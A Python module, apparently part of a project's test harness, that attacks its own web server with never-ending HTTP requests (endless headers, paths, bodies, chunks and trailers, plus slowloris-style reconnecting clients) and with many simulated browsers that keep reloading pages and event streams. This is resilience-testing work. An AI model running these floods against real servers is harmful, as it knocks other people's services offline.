"""Attack the pages: a request without end, and browsers that reload."""

import asyncio
import re
import socket
import ssl
import time
from collections.abc import Callable
from contextlib import suppress
from threading import Event
from typing import NamedTuple

from emulator.attacks.attack import Attack, Pace

ENOUGH_BYTES = 24 << 20  # whoever may send so much may send anything
_HOST = b"Host: pages\r\n"
_POST = b"POST /login HTTP/1.1\r\n" + _HOST
_CHUNKED = _POST + b"Transfer-Encoding: chunked\r\n\r\n"
_MANY = 4_096


class Endless(NamedTuple):
    """How a request begins, and what it then consists of for ever."""

    begins: bytes
    goes_on: bytes


FORMS = {
    "a header's value": Endless(b"GET / HTTP/1.1\r\n" + _HOST + b"X: ", b"a" * 32_768),
    "a header's name": Endless(b"GET / HTTP/1.1\r\n" + _HOST, b"a" * 32_768),
    "headers": Endless(b"GET / HTTP/1.1\r\n" + _HOST, b"X-A: b\r\n" * _MANY),
    "a path": Endless(b"GET /", b"a" * 32_768),
    "empty lines": Endless(b"", b"\r\n" * _MANY),
    "requests": Endless(b"", b"GET /health HTTP/1.1\r\n\r\n" * _MANY),
    "a body": Endless(_POST + b"Content-Length: 99999999999\r\n\r\n", b"a" * 32_768),
    "chunks": Endless(_CHUNKED, b"1\r\na\r\n" * _MANY),
    "a chunk's extension": Endless(_CHUNKED + b"1;", b"a" * 32_768),
    "a trailer": Endless(_CHUNKED + b"0\r\nX: ", b"a" * 32_768),
    "trailers": Endless(_CHUNKED + b"0\r\n", b"X-A: b\r\n" * _MANY),
}


class Sent(NamedTuple):
    """How far a client came."""

    size: int  # in bytes, those included that lie in the buffers of both sides
    answer: bytes


def send_for_ever(
    address: tuple[str, int],
    tls: ssl.SSLContext | None,
    form: Endless,
    pace: Pace | None = None,
    ended: Event | None = None,
) -> Sent:
    """Send until the other side has had enough, or enough was sent to see that it never has."""
    with socket.socket() as plain:
        # Buffers of ours would take bytes that the other side never sees.
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 65_536)
        plain.settimeout(20)
        plain.connect(address)
        with tls.wrap_socket(plain, server_hostname=address[0]) if tls else plain as client:
            count, answer = 0, b""
            with suppress(OSError):
                client.sendall(form.begins)
                while count < ENOUGH_BYTES and not (ended and ended.is_set()):
                    count += client.send(form.goes_on)
                    if pace:
                        pace.wait()
            with suppress(OSError):
                client.settimeout(2)
                answer = client.recv(4_096)
            return Sent(count, answer)


def endless_header(attack: Attack, began: Callable[[], None], ended: Event) -> int:
    """One client whose header has no end; cut off, it begins again."""
    pace, tls = attack.pace(), attack.tls()
    began()
    while not ended.is_set():
        with suppress(OSError):
            send_for_ever(attack.where, tls, FORMS["a header's value"], pace, ended)
        pace.wait()
    return pace.done


_ASSET = re.compile(rb'(?:href|src)="(/[^"]+)"')
_MODULE = re.compile(rb'from "\./([^"]+)"')
_LENGTH = re.compile(rb"content-length: (\d+)", re.IGNORECASE)


class Browser:
    """Loads a page with all that it needs, and opens its event stream."""

    def __init__(self, attack: Attack, tls: ssl.SSLContext) -> None:
        self._attack = attack
        self._tls = tls
        self.loaded = 0  # pages

    async def load(self, hold_s: float) -> None:
        """Load the page once, and watch it for so long."""
        host, port = self._attack.where
        reader, writer = await asyncio.open_connection(host, port, ssl=self._tls)
        try:
            wanted, seen = [self._attack.path], set[str]()
            while wanted:
                path = wanted.pop()
                if path not in seen:
                    seen.add(path)
                    body = await self._get(reader, writer, path)
                    wanted += [found.decode() for found in _ASSET.findall(body)]
                    wanted += [f"/static/{found.decode()}" for found in _MODULE.findall(body)]
            self.loaded += 1
            self._ask(writer, "/events" + self._attack.path)
            with suppress(TimeoutError):
                async with asyncio.timeout(hold_s):
                    while await reader.read(65_536):
                        pass
        finally:
            writer.close()

    def _ask(self, writer: asyncio.StreamWriter, path: str) -> None:
        writer.write(f"GET {path} HTTP/1.1\r\nHost: {self._attack.address}\r\n\r\n".encode())

    async def _get(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, path: str
    ) -> bytes:
        self._ask(writer, path)
        head = await reader.readuntil(b"\r\n\r\n")
        length = _LENGTH.search(head)
        return await reader.readexactly(int(length[1])) if length else b""


def browsers(attack: Attack, began: Callable[[], None], ended: Event) -> int:
    """Many of them, each of which reloads as often as the rate lets it."""
    return asyncio.run(_reload(attack, began, ended))


async def _reload(attack: Attack, began: Callable[[], None], ended: Event) -> int:
    every_s = attack.count / attack.per_s
    browser = Browser(attack, attack.tls())

    async def one(place: int) -> None:
        await asyncio.sleep(place / attack.per_s)
        while not ended.is_set():
            due_at = time.monotonic() + every_s
            with suppress(OSError, EOFError):
                await browser.load(every_s)
            await asyncio.sleep(max(0.05, due_at - time.monotonic()))

    everybody = [asyncio.create_task(one(place)) for place in range(attack.count)]
    await asyncio.sleep(every_s)
    began()
    await asyncio.to_thread(ended.wait)
    for each in everybody:
        each.cancel()
    await asyncio.gather(*everybody, return_exceptions=True)
    return browser.loaded
